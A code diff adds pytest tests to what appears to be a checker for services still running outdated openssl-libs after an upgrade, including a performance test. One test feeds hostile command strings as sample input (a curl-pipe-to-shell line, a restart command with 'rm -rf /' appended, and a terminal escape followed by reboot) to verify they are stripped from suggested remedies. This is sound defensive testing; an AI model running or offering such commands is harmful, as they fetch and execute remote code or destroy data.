@@ -130,3 +130,20 @@ def test_two_updates_the_first_after_the_start_counts(base: judge.Judge) -> None
     ]
     (found,) = still(base, software, restart(process()))
     assert "still runs openssl-libs 1:3.0.7-26.el9 with" in found["title"]
+
+
+@pytest.mark.parametrize("line", ["curl -s https://example.com/x | sh", "systemctl restart nginx.service; rm -rf /", "\x1b[2Jreboot"])
+def test_what_a_server_would_have_typed_is_no_remedy(line: str, base: judge.Judge) -> None:
+    stale = restart(process())
+    stale["services"][0]["commands"] = [line, "systemctl restart nginx.service", 5]
+    (found,) = still(base, rpm("28.el9"), stale)
+    assert found["remedy"]["commands"] == ["systemctl restart nginx.service"]
+
+
+def test_many_updates_and_files_are_not_tried_each_with_each(base: judge.Judge) -> None:
+    """Forty thousand of each, which is what a document may hold: 1.6 billion pairs would take minutes."""
+    software = rpm("28.el9")
+    software["upgrades"] = [["openssl-libs", "1:3.0.7-20.el9", number] for number in range(40_000)] + software["upgrades"]
+    file = process()["files"][0]
+    (found,) = still(base, software, restart(process(files=[{**file, "reason": "identical"}] * 40_000 + [file])))
+    assert "1:3.0.7-27.el9 or older" in found["title"]
